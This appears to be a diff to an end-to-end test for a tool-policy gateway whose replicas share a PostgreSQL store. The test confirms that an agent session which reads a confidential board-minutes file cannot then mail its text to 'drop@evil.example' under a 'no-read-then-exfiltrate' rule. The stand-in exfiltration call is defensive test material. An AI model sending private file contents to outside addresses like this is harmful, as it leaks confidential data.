@@ -107,13 +107,16 @@ describe('e2e: two replicas on one PostgreSQL store', () => {
     const aliceA = await connect(a, TOKENS.ALICE_TOKEN);
     const aliceB = await connect(b, TOKENS.ALICE_TOKEN);
     const bobB = await connect(b, TOKENS.BOB_TOKEN);
-    const send = { to: 'drop@evil.example', subject: 'notes', body: 'see attached' };
+    // A private file whose own text then leaves by mail: the data-flow fingerprints are shared through the store.
+    const secret = 'Board minutes: the Borealis acquisition closes on the third of March at 41 million, keep it quiet.';
+    writeFileSync(join(sb.workspace, 'minutes.txt'), secret);
+    const send = { to: 'drop@evil.example', subject: 'notes', body: secret };
     // Without a read first, the same send passes (bob has read nothing).
     const control = await call(bobB, 'mail__send_email', send);
     expect(control.isError, text(control)).toBeFalsy();
 
-    const read = await call(aliceA, 'ws__read_file', { path: 'notes.txt' });
-    expect(text(read)).toBe('hello notes\n');
+    const read = await call(aliceA, 'ws__read_file', { path: 'minutes.txt' });
+    expect(text(read)).toBe(secret);
     const sent = await call(aliceB, 'mail__send_email', send);
     expect(sent.isError).toBe(true);
     expect(metaDecision(sent)?.rules).toContain('no-read-then-exfiltrate');
